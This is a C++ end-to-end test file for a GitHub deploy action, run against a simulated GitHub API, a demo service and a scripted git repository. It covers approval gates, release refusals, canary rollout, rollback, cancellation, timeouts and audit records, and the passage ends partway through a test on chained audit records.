// `deploy-action` in modes deploy and rollback, end to end: a real git repository made with the
// git CLI (v1.0.0, v1.1.0, v1.2.0 merged through pull requests, a tag off the default branch, a
// non-semver tag), github-sim seeded with the same commits, and tests/demo-service as the deployed
// service. The action runs as the runner runs it (INPUT_* and GITHUB_* variables); what it did is
// read back from github-sim, from the service over HTTP, and from its outputs and audit files.
#include <doctest/doctest.h>

#include <signal.h>

#include <atomic>
#include <chrono>
#include <filesystem>
#include <fstream>
#include <map>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include <nlohmann/json.hpp>

#include "core/audit/audit.hpp"
#include "core/process/process.hpp"
#include "core/runner/commands.hpp"
#include "tests/support/demo_service.hpp"
#include "tests/support/files.hpp"
#include "tests/support/github_sim.hpp"
#include "tests/support/run_action.hpp"
#include "tests/support/silent_server.hpp"
#include "tests/support/temp_dir.hpp"

using json = nlohmann::json;
namespace fs = std::filesystem;
using namespace std::chrono_literals;
using deploy::test::DemoService;
using deploy::test::eventually;
using deploy::test::read_file;
using deploy::test::TempDir;

namespace {

std::string trim(std::string text) {
  while (!text.empty() && (text.back() == '\n' || text.back() == ' ')) text.pop_back();
  return text;
}

// Runs git in `dir` with a fixed identity and clock, so the repository is the same every time.
std::string git(const fs::path& dir, std::vector<std::string> args, const std::string& who = "alice") {
  deploy::process::Spec spec;
  spec.argv = {"git"};
  spec.argv.insert(spec.argv.end(), args.begin(), args.end());
  spec.working_directory = dir.string();
  spec.env = {{"GIT_AUTHOR_NAME", who},
              {"GIT_AUTHOR_EMAIL", who + "@example.com"},
              {"GIT_COMMITTER_NAME", who},
              {"GIT_COMMITTER_EMAIL", who + "@example.com"},
              {"GIT_AUTHOR_DATE", "1700000000 +0000"},
              {"GIT_COMMITTER_DATE", "1700000000 +0000"},
              {"GIT_CONFIG_NOSYSTEM", "1"},
              {"HOME", dir.string()}};
  spec.timeout = 30s;
  std::string out;
  auto result = deploy::process::run(spec, [&](const std::string& line) { out += line + "\n"; });
  INFO("git " << args[0] << ": " << out);
  REQUIRE(result.succeeded());
  return trim(out);
}

// The repository every test deploys from:
//   v1.0.0  Initial                                      (alice)
//   v1.1.0  Merge pull request #1 (feature-a, by bob)
//   v1.2.0  Merge pull request #2 (feature-b, by carol)
//   v1.3.0  on branch `side`, never merged               (off the default branch)
//   v2-beta a tag that matches v* but is not semver
struct Repository {
  fs::path dir;
  std::map<std::string, std::string> sha;  // tag or name -> commit
  json seed_commits = json::array();

  explicit Repository(const fs::path& where) : dir(where) {
    fs::create_directories(dir);
    git(dir, {"init", "-q", "-b", "main"});
    commit("alice", "README.md", "# app\n", "Initial");
    tag("v1.0.0");
    sha["v1.0.0"] = head();

    git(dir, {"checkout", "-q", "-b", "feature-a"});
    commit("bob", "a.txt", "a\n", "Add feature A");
    sha["feature-a"] = head();
    git(dir, {"checkout", "-q", "main"});
    git(dir, {"merge", "-q", "--no-ff", "-m", "Merge pull request #1 from acme/feature-a", "feature-a"}, "bob");
    tag("v1.1.0");
    sha["v1.1.0"] = head();

    git(dir, {"checkout", "-q", "-b", "feature-b"});
    commit("carol", "b.txt", "b\n", "Add feature B");
    sha["feature-b"] = head();
    git(dir, {"checkout", "-q", "main"});
    git(dir, {"merge", "-q", "--no-ff", "-m", "Merge pull request #2 from acme/feature-b", "feature-b"}, "carol");
    tag("v1.2.0");
    sha["v1.2.0"] = head();

    git(dir, {"checkout", "-q", "-b", "side"});
    commit("bob", "side.txt", "side\n", "Side work");
    tag("v1.3.0");
    sha["v1.3.0"] = head();
    git(dir, {"checkout", "-q", "main"});
    tag("v2-beta");
  }

  void commit(const std::string& who, const std::string& file, const std::string& text, const std::string& message) {
    std::ofstream(dir / file) << text;
    git(dir, {"add", file}, who);
    git(dir, {"commit", "-q", "-m", message}, who);
  }
  void tag(const std::string& name) { git(dir, {"tag", "-a", "-m", "Release " + name, name}); }
  std::string head() { return git(dir, {"rev-parse", "HEAD"}); }

  // The same commits for github-sim, with their real SHAs, authors and parents.
  json commits_for_sim() {
    json commits = json::array();
    std::istringstream log(git(dir, {"log", "--all", "--topo-order", "--reverse", "--format=%H|%P|%an|%s"}));
    for (std::string line; std::getline(log, line);) {
      std::vector<std::string> parts;
      std::stringstream fields(line);
      for (std::string part; std::getline(fields, part, '|');) parts.push_back(part);
      json parents = json::array();
      std::stringstream ps(parts[1]);
      for (std::string p; ps >> p;) parents.push_back(p);
      commits.push_back({{"sha", parts[0]}, {"parents", parents}, {"author", parts[2]}, {"message", parts[3]}});
    }
    return commits;
  }
};

Repository& shared_repository() {
  static TempDir dir("deploy-action-shared");
  static Repository repo(dir.path() / "repo");
  return repo;
}

// What each test starts from; a test adds approvals, reviews and deployments to its own copy.
json base_seed(Repository& repo) {
  json seed = {
      {"users", json::array({"alice",
                             "bob",
                             "carol",
                             "dave",
                             "erin",
                             "frank",
                             "mallory",
                             {{"login", "github-actions[bot]"}, {"type", "Bot"}}})},
      {"organizations", json::array({{{"login", "acme"},
                                      {"members", {{"alice", "admin"}}},
                                      {"teams", json::array({{{"slug", "release-managers"},
                                                              {"members", {{"erin", "member"}}},
                                                              {"repositories", {{"acme/app", "write"}}}}})}}})},
      {"tokens",
       {{"ghs_runner", {{"installation_id", 42}}},
        {"tok-alice", "alice"},
        {"tok-bob", "bob"},
        {"tok-carol", "carol"},
        {"tok-dave", "dave"},
        {"tok-erin", "erin"},
        {"tok-frank", "frank"}}},
      // GITHUB_TOKEN is an installation token of the github-actions App, with the permissions the
      // docs tell a deploy job to grant.
      {"installations", json::array({{{"id", 42},
                                      {"account", "acme"},
                                      {"permissions",
                                       {{"contents", "write"},
                                        {"deployments", "write"},
                                        {"issues", "write"},
                                        {"metadata", "read"},
                                        {"pull_requests", "read"},
                                        {"statuses", "read"},
                                        {"checks", "read"},
                                        {"members", "read"}}}}})},
      {"repositories",
       json::array(
           {{{"owner", "acme"},
             {"name", "app"},
             {"private", true},
             {"default_branch", "main"},
             {"collaborators", {{"bob", "write"}, {"carol", "write"}, {"dave", "read"}, {"frank", "maintain"}}},
             {"commits", repo.commits_for_sim()},
             {"branches", {{"main", repo.sha["v1.2.0"]}, {"side", repo.sha["v1.3.0"]}}},
             {"tags",
              {{"v1.0.0", repo.sha["v1.0.0"]},
               {"v1.1.0", repo.sha["v1.1.0"]},
               {"v1.2.0", repo.sha["v1.2.0"]},
               {"v1.3.0", repo.sha["v1.3.0"]}}},
             {"pulls", json::array({{{"title", "Add feature A"},
                                     {"user", "bob"},
                                     {"head", {{"ref", "feature-a"}, {"sha", repo.sha["feature-a"]}}},
                                     {"base", {{"ref", "main"}, {"sha", repo.sha["v1.0.0"]}}},
                                     {"merged", true},
                                     {"merge_commit_sha", repo.sha["v1.1.0"]},
                                     {"reviews", json::array({{{"user", "carol"}, {"state", "APPROVED"}}})}},
                                    {{"title", "Add feature B"},
                                     {"user", "carol"},
                                     {"head", {{"ref", "feature-b"}, {"sha", repo.sha["feature-b"]}}},
                                     {"base", {{"ref", "main"}, {"sha", repo.sha["v1.1.0"]}}},
                                     {"merged", true},
                                     {"merge_commit_sha", repo.sha["v1.2.0"]},
                                     {"reviews", json::array({{{"user", "bob"}, {"state", "APPROVED"}}})}}})},
             {"statuses", json::array({{{"sha", repo.sha["v1.1.0"]}, {"context", "build"}, {"state", "success"}},
                                       {{"sha", repo.sha["v1.2.0"]}, {"context", "build"}, {"state", "success"}}})},
             {"environments", json::array({"staging", "production"})}}})}};
  return seed;
}

json& repo_of(json& seed) { return seed["repositories"][0]; }

// A release tracking issue that already exists for `tag` (as the bot would have opened it), with
// these comments, and the release that links to it.
void add_tracking_issue(json& seed, Repository& repo, const std::string& tag, json comments, int number = 10) {
  json& r = repo_of(seed);
  r["issues"].push_back(
      {{"number", number},
       {"title", "Release " + tag},
       {"user", "github-actions[bot]"},
       {"body", "Tracking " + tag + "\n\n<!-- deploy-action:release tag=" + tag + " sha=" + repo.sha[tag] + " -->\n"},
       {"comments", comments}});
  r["releases"].push_back({{"tag_name", tag},
                           {"author", "alice"},
                           {"body", "<!-- deploy-action:tracking-issue=" + std::to_string(number) + " -->"}});
}

// A deployment of `tag` that deploy-action made earlier and that is live now.
void add_live_deployment(json& seed, Repository& repo, const std::string& tag) {
  repo_of(seed)["deployments"].push_back({{"ref", tag},
                                          {"sha", repo.sha[tag]},
                                          {"environment", "production"},
                                          {"creator", "alice"},
                                          {"payload", {{"deploy_action", {{"version", tag}}}}},
                                          {"statuses", json::array({{{"state", "success"}}})}});
}

// A deployment deploy-action made earlier that went live and was replaced since (inactive).
void add_replaced_deployment(json& seed, Repository& repo, const std::string& tag) {
  repo_of(seed)["deployments"].push_back(
      {{"ref", tag},
       {"sha", repo.sha[tag]},
       {"environment", "production"},
       {"creator", "alice"},
       {"payload", {{"deploy_action", {{"version", tag}}}}},
       {"statuses", json::array({{{"state", "success"}}, {{"state", "inactive"}}})}});
}

// The config: canary 10 -> 50 -> 100 with a health check on the demo service, two approvals.
std::string deploy_yml(const fs::path& state, const std::string& service_url, const std::string& stage_timeout = "1m",
                       const std::string& pause = "1s") {
  const std::string dir = "'" + state.string() + "'";
  return R"Y(version: 1
release:
  tag_pattern: "v*"
  require_annotated: true
environments:
  staging:
    on: { branches: [main] }
  production:
    on: { tags: ["v*"] }
    url: )Y" +
         service_url + R"Y(
    approvals:
      required: 2
      from: ["@acme/release-managers", write]
      count_reviews: true
    reviewed_changes: { required_reviews: 1 }
    required_checks: [build]
    rollback:
      window: 24h
      allowed: [maintain, "@deploy-bot[bot]"]
    strategy:
      type: canary
      steps:
        - { traffic: 10, pause: )Y" +
         pause + R"Y( }
        - { traffic: 50, pause: )Y" +
         pause + R"Y( }
        - { traffic: 100 }
    analysis:
      interval: 1s
      failure_limit: 1
      checks:
        - name: health
          http: { url: ")Y" +
         service_url + R"Y(/healthz", expect_status: 200 }
stages:
  - name: deploy
    traffic: true
    timeout: )Y" +
         stage_timeout + R"Y(
    run: |
      echo "$DEPLOY_VERSION $DEPLOY_TRAFFIC" >> )Y" +
         dir + R"Y(/steps
      printf '%s' "$DEPLOY_VERSION" > )Y" +
         dir + R"Y(/version
      printf '%s' "$DEPLOY_TRAFFIC" > )Y" +
         dir + R"Y(/traffic
      if [ -f )Y" +
         dir + R"Y(/hang ]; then sleep 300 & echo $! > )Y" + dir + R"Y(/hang.pid; wait; fi
rollback:
  run: |
    echo "rollback $DEPLOY_VERSION from $DEPLOY_ROLLBACK_FROM" >> )Y" +
         dir + R"Y(/steps
    printf '%s' "$DEPLOY_VERSION" > )Y" +
         dir + R"Y(/version
)Y";
}

// One test's world: the simulator, the service, a workspace, and the runner's variables.
struct World {
  TempDir temp{"deploy-action-e2e"};
  Repository& repo = shared_repository();
  fs::path state = temp.path() / "service";
  std::unique_ptr<deploy::test::GithubSim> sim;
  std::unique_ptr<DemoService> service;
  fs::path workspace = repo.dir;
  fs::path config;
  int runs = 0;

  explicit World(const json& seed, const std::string& stage_timeout = "1m", const std::string& pause = "1s") {
    fs::create_directories(state);
    fs::create_directories(temp.path() / "runner-temp");
    std::ofstream(state / "version") << "v1.0.0";
    service = std::make_unique<DemoService>(state);
    sim = std::make_unique<deploy::test::GithubSim>(seed);
    config = temp.write("deploy.yml", deploy_yml(state, service->url(), stage_timeout, pause));
  }

  std::map<std::string, std::string> env(const std::string& ref, const std::string& actor = "alice",
                                         const std::string& mode = "deploy") {
    // As actions/checkout leaves it: the deployed ref checked out; a rollback runs from main.
    std::string checkout = mode == "rollback" ? "main" : ref.substr(ref.rfind('/') + 1);
    git(workspace, {"checkout", "-q", "--detach", checkout});
    ++runs;
    fs::path run_dir = temp.path() / ("run-" + std::to_string(runs));
    fs::create_directories(run_dir);
    std::ofstream(run_dir / "output").close();
    std::ofstream(run_dir / "summary").close();
    std::ofstream(run_dir / "event.json") << R"({"repository":{"default_branch":"main"}})";
    return {{"GITHUB_ACTIONS", "true"},
            {"INPUT_MODE", mode},
            {"INPUT_ENVIRONMENT", "production"},
            {"INPUT_CONFIG", config.string()},
            {"INPUT_REF", ""},
            {"INPUT_VERSION", ""},
            {"INPUT_REASON", ""},
            {"INPUT_ON-UNAPPROVED", "fail"},
            {"INPUT_GITHUB-TOKEN", "ghs_runner"},
            {"GITHUB_REF", ref},
            {"GITHUB_REPOSITORY", "acme/app"},
            {"GITHUB_API_URL", sim->base_url()},
            {"GITHUB_SERVER_URL", "https://github.example"},
            {"GITHUB_RUN_ID", std::to_string(7000 + runs)},
            {"GITHUB_RUN_ATTEMPT", "1"},
            {"GITHUB_ACTOR", actor},
            {"GITHUB_TRIGGERING_ACTOR", actor},
            {"GITHUB_EVENT_NAME", "push"},
            {"GITHUB_EVENT_PATH", (run_dir / "event.json").string()},
            {"GITHUB_WORKSPACE", workspace.string()},
            {"RUNNER_TEMP", (temp.path() / "runner-temp").string()},
            {"GITHUB_OUTPUT", (run_dir / "output").string()},
            {"GITHUB_STEP_SUMMARY", (run_dir / "summary").string()}};
  }

  fs::path run_dir() const { return temp.path() / ("run-" + std::to_string(runs)); }

  // Replaces the config; `{STATE}` and `{URL}` become the service's state folder and URL.
  void use_config(std::string text) {
    for (const auto& [key, value] :
         {std::pair<std::string, std::string>{"{STATE}", "'" + state.string() + "'"}, {"{URL}", service->url()}}) {
      for (auto at = text.find(key); at != std::string::npos; at = text.find(key, at + value.size())) {
        text.replace(at, key.size(), value);
      }
    }
    config = temp.write("deploy.yml", text);
  }

  // The step outputs of the last run, parsed as the runner parses them.
  std::map<std::string, std::string> outputs() const {
    std::map<std::string, std::string> values;
    auto parsed = deploy::runner::parse_file_commands(read_file(run_dir() / "output"));
    REQUIRE_MESSAGE(parsed, parsed.error().message);
    for (const auto& entry : *parsed) values[entry.name] = entry.value;
    return values;
  }
  std::string summary() const { return read_file(run_dir() / "summary"); }

  json repo_state() const { return sim->state()["repositories"][0]; }
};

struct Run {
  int exit_code = -1;
  std::string output;
};

Run run_action(const std::map<std::string, std::string>& env, const std::atomic<bool>* cancel = nullptr) {
  deploy::process::Spec spec;
  spec.argv = {DEPLOY_ACTION_BINARY};
  spec.env = env;
  spec.timeout = 120s;
  spec.kill_grace = 60s;  // a cancelled action must have time to roll back and write its record
  Run run;
  auto result = deploy::process::run(
      spec, [&](const std::string& line) { run.output += line + "\n"; }, cancel);
  run.exit_code = result.end == deploy::process::Result::End::exited ? result.exit_code : -100 - result.signal;
  return run;
}

bool contains(const std::string& text, const std::string& part) { return text.find(part) != std::string::npos; }

json approvals(std::initializer_list<const char*> users) {
  json comments = json::array();
  for (const char* user : users) comments.push_back({{"user", user}, {"body", "/approve"}});
  return comments;
}

json audit_record(const std::string& file) {
  auto parsed = deploy::audit::parse_jsonl(read_file(file));
  REQUIRE(parsed);
  REQUIRE(parsed->records.size() == 1);
  return parsed->records[0];
}

}  // namespace

TEST_CASE("a healthy release goes through the canary steps in order, and every report says so") {
  auto& repo = shared_repository();
  json seed = base_seed(repo);
  add_tracking_issue(seed, repo, "v1.1.0", approvals({"erin", "frank"}));
  World world(seed);

  auto run = run_action(world.env("refs/tags/v1.1.0"));
  INFO(run.output);
  REQUIRE(run.exit_code == 0);

  // The service went 10 -> 50 -> 100 on the new version, seen over HTTP at the end.
  CHECK(read_file(world.state / "steps") == "v1.1.0 10\nv1.1.0 50\nv1.1.0 100\n");
  CHECK(world.service->get("/version") == "v1.1.0");

  auto outputs = world.outputs();
  CHECK(outputs["status"] == "succeeded");
  CHECK(outputs["version"] == "v1.1.0");
  CHECK(outputs["rolled-back"] == "false");
  CHECK(outputs["sha"] == repo.sha["v1.1.0"]);
  REQUIRE(!outputs["deployment-id"].empty());
  REQUIRE(!outputs["audit-file"].empty());

  // GitHub: one deployment for the commit, in_progress then success, with the audit link.
  auto state = world.repo_state();
  REQUIRE(state["deployments"].size() == 1);
  const auto& deployment = state["deployments"][0];
  CHECK(deployment["sha"] == repo.sha["v1.1.0"]);
  CHECK(deployment["environment"] == "production");
  CHECK(std::to_string(deployment["id"].get<long long>()) == outputs["deployment-id"]);
  CHECK(deployment["payload"]["deploy_action"]["version"] == "v1.1.0");
  std::vector<std::string> states;
  for (const auto& status : deployment["statuses"]) states.push_back(status["state"]);
  CHECK(states == std::vector<std::string>{"in_progress", "success"});
  CHECK(contains(deployment["statuses"][1]["description"].get<std::string>(), "audit#0 "));
  CHECK(deployment["statuses"][1]["log_url"] == "https://github.example/acme/app/actions/runs/7001");

  // The audit record: the gates with both approvers, the stages, the outcome; it verifies.
  json record = audit_record(outputs["audit-file"]);
  CHECK(record["outcome"]["status"] == "success");
  CHECK(record["version"] == "v1.1.0");
  CHECK(record["seq"] == 0);
  int counted = 0;
  for (const auto& approval : record["approvals"]) counted += approval["counted"].get<bool>() ? 1 : 0;
  CHECK(counted == 2);
  CHECK(record["stages"].size() == 3);
  auto verify = deploy::test::run_action({"verify-audit", outputs["audit-file"]});
  CHECK_MESSAGE(verify.exit_code == 0, verify.output);

  // The step summary names the gates, the stages and the timeline.
  std::string summary = world.summary();
  CHECK(contains(summary, "approvals"));
  CHECK(contains(summary, "```mermaid"));
  CHECK(contains(summary, "v1.1.0"));
}

TEST_CASE("too few approvals: nothing runs, the tracking issue is opened and says who is needed") {
  auto& repo = shared_repository();
  World world(base_seed(repo));

  auto run = run_action(world.env("refs/tags/v1.1.0"));
  INFO(run.output);
  CHECK(run.exit_code == 1);
  CHECK(contains(run.output, "FAIL  approvals"));
  CHECK_FALSE(fs::exists(world.state / "steps"));
  CHECK(world.outputs()["status"] == "blocked");
  CHECK(world.repo_state()["deployments"].empty());

  // The action opened the tracking issue, linked it from the release, and said what is missing.
  auto state = world.repo_state();
  json issue;
  for (const auto& it : state["issues"]) {
    if (contains(it.value("body", json("")).is_string() ? it["body"].get<std::string>() : "",
                 "deploy-action:release tag=v1.1.0 sha=" + repo.sha["v1.1.0"])) {
      issue = it;
    }
  }
  REQUIRE(issue.is_object());
  bool linked = false;
  for (const auto& release : state["releases"]) {
    if (release["tag_name"] == "v1.1.0") {
      linked = contains(release["body"].get<std::string>(),
                        "deploy-action:tracking-issue=" + std::to_string(issue["number"].get<int>()));
    }
  }
  CHECK(linked);
  std::string comments;
  for (const auto& c : state["issue_comments"]) {
    if (c["issue_number"] == issue["number"]) comments += c["body"].get<std::string>();
  }
  CHECK(contains(comments, "needs 2 more approval"));

  // A second run finds the same issue and edits its comment instead of posting another.
  auto again = run_action(world.env("refs/tags/v1.1.0"));
  CHECK(again.exit_code == 1);
  auto after = world.repo_state();
  int tracking = 0, gate_comments = 0;
  for (const auto& it : after["issues"]) {
    if (it["body"].is_string() && contains(it["body"].get<std::string>(), "deploy-action:release tag=v1.1.0"))
      ++tracking;
  }
  for (const auto& c : after["issue_comments"]) {
    if (contains(c["body"].get<std::string>(), "deploy-action:comment=gates/production/")) ++gate_comments;
  }
  CHECK(tracking == 1);
  CHECK(gate_comments == 1);
}

TEST_CASE("on-unapproved: skip exits 0 with status skipped and runs nothing") {
  auto& repo = shared_repository();
  World world(base_seed(repo));
  auto env = world.env("refs/tags/v1.1.0");
  env["INPUT_ON-UNAPPROVED"] = "skip";
  // As in a container action, where the runner's temp directory is not mounted: the record goes to
  // the workspace and the output names it relative to the workspace, as upload-artifact reads it.
  env["RUNNER_TEMP"] = (world.temp.path() / "not-mounted").string();
  auto run = run_action(env);
  INFO(run.output);
  CHECK(run.exit_code == 0);
  auto outputs = world.outputs();
  CHECK(outputs["status"] == "skipped");
  CHECK_FALSE(fs::exists(world.state / "steps"));
  CHECK(outputs["audit-file"] == ".deploy-audit/refused/production-000000.jsonl");
  CHECK(audit_record((world.workspace / outputs["audit-file"]).string())["outcome"]["status"] == "refused");
  fs::remove_all(world.workspace / ".deploy-audit");
}

TEST_CASE("approvals that do not count are refused with their reason") {
  auto& repo = shared_repository();
  struct Case {
    const char* name;
    json comments;
    std::string actor;
    std::string expected;             // in the approvals gate's message
    std::string workflow_actor = {};  // GITHUB_ACTOR when a re-run makes it differ
  };
  std::vector<Case> cases = {
      // alice pushed the tag: the person who triggers a deploy cannot approve it.
      {"self-approval", approvals({"alice", "erin"}), "alice", "not counted: alice: "},
      // bob merged v1.1.0 (the release commit's author).
      {"the author", approvals({"bob", "erin"}), "frank", "not counted: bob: "},
      // dave can only read; mallory is no collaborator.
      {"read-only", approvals({"dave", "erin"}), "alice", "not counted: dave: "},
      {"no access", approvals({"mallory", "erin"}), "alice", "not counted: mallory: "},
      {"duplicate", approvals({"erin", "erin"}), "alice", "not counted: erin: "},
      // frank re-ran the job carol started: carol still set this deploy going.
      {"the original actor of a re-run", approvals({"carol", "erin"}), "frank", "not counted: carol: ", "carol"},
  };
  for (const auto& c : cases) {
    CAPTURE(c.name);
    json seed = base_seed(repo);
    add_tracking_issue(seed, repo, "v1.1.0", c.comments);
    World world(seed);
    auto env = world.env("refs/tags/v1.1.0", c.actor);
    if (!c.workflow_actor.empty()) env["GITHUB_ACTOR"] = c.workflow_actor;
    auto run = run_action(env);
    INFO(run.output);
    CHECK(run.exit_code == 1);
    CHECK(contains(run.output, "FAIL  approvals"));
    CHECK(contains(run.output, "needs 1 more approval"));
    CHECK(contains(run.output, c.expected));
    CHECK_FALSE(fs::exists(world.state / "steps"));
  }
}

TEST_CASE("an approving review of an older commit does not approve the release commit") {
  auto& repo = shared_repository();
  json seed = base_seed(repo);
  // carol's review of PR #1 approved its head (feature-a), not the merge commit tagged v1.1.0.
  add_tracking_issue(seed, repo, "v1.1.0", approvals({"erin"}));
  World world(seed);
  auto run = run_action(world.env("refs/tags/v1.1.0"));
  INFO(run.output);
  CHECK(run.exit_code == 1);
  json record = audit_record(world.outputs()["audit-file"]);
  bool stale = false;
  for (const auto& approval : record["approvals"]) {
    if (approval["approver"] == "carol" && approval["reason"] == "stale_sha") stale = true;
  }
  CHECK(stale);
  CHECK(record["outcome"]["status"] == "refused");
}

TEST_CASE("a release with an unreviewed pull request is refused") {
  auto& repo = shared_repository();
  json seed = base_seed(repo);
  repo_of(seed)["pulls"][1]["reviews"] = json::array();  // PR #2 (in v1.2.0) was never reviewed
  add_tracking_issue(seed, repo, "v1.2.0", approvals({"erin", "frank"}));
  World world(seed);
  auto run = run_action(world.env("refs/tags/v1.2.0"));
  INFO(run.output);
  CHECK(run.exit_code == 1);
  CHECK(contains(run.output, "FAIL  reviewed_changes"));
  CHECK(contains(run.output, "pull requests without enough approving reviews"));
  CHECK_FALSE(fs::exists(world.state / "steps"));
}

TEST_CASE("release refusals from the repository: each with its message") {
  auto& repo = shared_repository();
  struct Case {
    const char* name;
    std::string ref;
    bool live_v1_2_0;
    std::string expected;
  };
  std::vector<Case> cases = {
      {"tag off the default branch", "refs/tags/v1.3.0", false, "default branch"},
      {"non-semver tag", "refs/tags/v2-beta", false, "semantic version"},
      {"older than what runs", "refs/tags/v1.1.0", true, "is not newer than v1.2.0"},
  };
  for (const auto& c : cases) {
    CAPTURE(c.name);
    json seed = base_seed(repo);
    if (c.live_v1_2_0) add_live_deployment(seed, repo, "v1.2.0");
    add_tracking_issue(seed, repo, "v1.1.0", approvals({"erin", "frank"}));
    World world(seed);
    auto run = run_action(world.env(c.ref));
    INFO(run.output);
    CHECK(run.exit_code == 1);
    CHECK(contains(run.output, c.expected));
    auto outputs = world.outputs();
    CHECK(outputs["status"] == "refused");
    CHECK_FALSE(fs::exists(world.state / "steps"));
    // Refused releases are on the record too.
    CHECK(audit_record(outputs["audit-file"])["outcome"]["status"] == "refused");
  }
}

TEST_CASE("a checkout of another commit than the release is refused: the stages would run other files") {
  auto& repo = shared_repository();
  json seed = base_seed(repo);
  add_tracking_issue(seed, repo, "v1.1.0", approvals({"erin", "frank"}));
  World world(seed);
  auto env = world.env("refs/tags/v1.1.0");
  git(world.workspace, {"checkout", "-q", "--detach", "main"});
  auto run = run_action(env);
  INFO(run.output);
  CHECK(run.exit_code == 1);
  CHECK(contains(run.output, "the checkout is at " + repo.sha["v1.2.0"].substr(0, 7)));
  CHECK(world.outputs()["status"] == "refused");
  CHECK_FALSE(fs::exists(world.state / "steps"));
}

TEST_CASE("a shallow clone is refused with the fetch-depth fix") {
  auto& repo = shared_repository();
  World world(base_seed(repo));
  fs::path shallow = world.temp.path() / "shallow";
  git(world.temp.path(),
      {"clone", "-q", "--depth", "1", "--branch", "v1.1.0", "file://" + repo.dir.string(), shallow.string()});
  world.workspace = shallow;
  auto run = run_action(world.env("refs/tags/v1.1.0"));
  INFO(run.output);
  CHECK(run.exit_code == 1);
  CHECK(contains(run.output, "fetch-depth: 0"));
}

TEST_CASE("a version that fails health is rolled back, and the service answers with the previous version") {
  auto& repo = shared_repository();
  json seed = base_seed(repo);
  add_live_deployment(seed, repo, "v1.1.0");
  add_tracking_issue(seed, repo, "v1.2.0", approvals({"erin", "frank"}));
  World world(seed);
  std::ofstream(world.state / "version") << "v1.1.0";
  std::ofstream(world.state / "broken") << "v1.2.0\n";

  auto run = run_action(world.env("refs/tags/v1.2.0"));
  INFO(run.output);
  CHECK(run.exit_code == 1);
  CHECK(world.service->get("/version") == "v1.1.0");
  CHECK(contains(read_file(world.state / "steps"), "rollback v1.1.0 from v1.2.0"));
  auto outputs = world.outputs();
  CHECK(outputs["status"] == "rolled_back");
  CHECK(outputs["rolled-back"] == "true");
  CHECK(outputs["previous-version"] == "v1.1.0");

  // The new deployment failed; the one it would have replaced is still live.
  auto state = world.repo_state();
  REQUIRE(state["deployments"].size() == 2);
  CHECK(state["deployments"][1]["statuses"].back()["state"] == "failure");
  CHECK(state["deployments"][0]["statuses"].back()["state"] == "success");
  CHECK(audit_record(outputs["audit-file"])["outcome"]["status"] == "rolled_back");
}

TEST_CASE("SIGTERM mid-deploy stops the stage, rolls back and records cancelled") {
  auto& repo = shared_repository();
  json seed = base_seed(repo);
  add_live_deployment(seed, repo, "v1.1.0");
  add_tracking_issue(seed, repo, "v1.2.0", approvals({"erin", "frank"}));
  World world(seed, "1m", "30s");  // long pauses: the cancel arrives during the first one
  std::ofstream(world.state / "version") << "v1.1.0";

  std::atomic<bool> cancel{false};
  auto env = world.env("refs/tags/v1.2.0");
  std::thread canceller([&] {
    if (eventually([&] { return fs::exists(world.state / "traffic"); }, 60s)) cancel = true;
  });
  auto run = run_action(env, &cancel);
  canceller.join();
  INFO(run.output);
  CHECK(cancel.load());
  CHECK(run.exit_code != 0);
  CHECK(contains(run.output, "rolled back to v1.1.0"));
  CHECK(world.service->get("/version") == "v1.1.0");
  auto outputs = world.outputs();
  CHECK(outputs["status"] == "cancelled");
  json record = audit_record(outputs["audit-file"]);
  CHECK(record["outcome"]["status"] == "cancelled");
  auto state = world.repo_state();
  CHECK(state["deployments"].back()["statuses"].back()["state"] == "error");
}

TEST_CASE("a Slack URL that never answers holds back neither the stages nor the run, and is reported") {
  auto& repo = shared_repository();
  json seed = base_seed(repo);
  add_tracking_issue(seed, repo, "v1.1.0", approvals({"erin", "frank"}));
  World world(seed, "1m", "0s");
  world.config = world.temp.write("deploy.yml", read_file(world.config) + R"Y(notifications:
  slack:
    webhook_url_env: SLACK_WEBHOOK_URL
)Y");
  deploy::test::SilentServer slack;
  auto env = world.env("refs/tags/v1.1.0");
  env["SLACK_WEBHOOK_URL"] = slack.url("/services/T0/B0/secret-token-123");

  // Before, the started notification was sent first and waited for: 10 s for an answer, twice,
  // before the first stage; the final one as long again. The bounds below are far from both.
  const auto started = std::chrono::steady_clock::now();
  std::atomic<bool> run_over{false};
  std::optional<std::chrono::steady_clock::duration> first_stage_after;
  std::thread watcher([&] {
    if (eventually([&] { return run_over.load() || fs::exists(world.state / "steps"); }, 120s) && !run_over) {
      first_stage_after = std::chrono::steady_clock::now() - started;
    }
  });
  auto run = run_action(env);
  const auto run_took = std::chrono::steady_clock::now() - started;
  run_over = true;
  watcher.join();
  INFO(run.output);

  REQUIRE(run.exit_code == 0);
  CHECK(world.outputs()["status"] == "succeeded");
  CHECK(slack.connections() >= 1);
  REQUIRE(first_stage_after.has_value());
  CHECK(*first_stage_after < 15s);
  CHECK(run_took < 35s);

  // Said as warnings that name the target, never the URL.
  CHECK(contains(run.output,
                 "::warning::notification slack not delivered: slack: sending to the URL in "
                 "SLACK_WEBHOOK_URL failed: it did not answer in time"));
  CHECK(contains(run.output,
                 "::warning::notification slack not delivered: slack: the succeeded notification was "
                 "abandoned: not sent within the 10s the run waits for notifications"));
  std::istringstream lines(run.output);
  for (std::string line; std::getline(lines, line);) {
    if (line.starts_with("::add-mask::")) continue;
    CHECK_MESSAGE(!contains(line, "secret-token-123"), line);
  }
}

TEST_CASE("a stage past its timeout leaves no process behind") {
  auto& repo = shared_repository();
  json seed = base_seed(repo);
  add_tracking_issue(seed, repo, "v1.1.0", approvals({"erin", "frank"}));
  World world(seed, "1s");
  std::ofstream(world.state / "hang") << "";
  auto run = run_action(world.env("refs/tags/v1.1.0"));
  INFO(run.output);
  CHECK(run.exit_code == 1);
  CHECK(contains(run.output, "timed out"));
  REQUIRE(fs::exists(world.state / "hang.pid"));
  pid_t pid = std::stoi(read_file(world.state / "hang.pid"));
  CHECK(eventually([&] { return deploy::test::process_gone(pid); }));
}

TEST_CASE("consecutive runs chain their audit records through the GitHub deployment; a rollback needs no approvals") {
  auto& repo = shared_repository();
  json seed = base_seed(repo);
  add_tracking_issue(seed, repo, "v1.1.0", approvals({"erin", "frank"}), 10);
  add_tracking_issue(seed, repo, "v1.2.0", approvals({"erin", "frank"}), 11);
  World world(seed, "1m", "0s");
  std::vector<std::string> files;
  for (const char* tag : {"v1.1.0", "v1.2.0"}) {
    auto run = run_action(world.env(std::string("refs/tags/") + tag));
    REQUIRE_MESSAGE(run.exit_code == 0, run.output);
    files.push_back(world.outputs()["audit-file"]);
  }
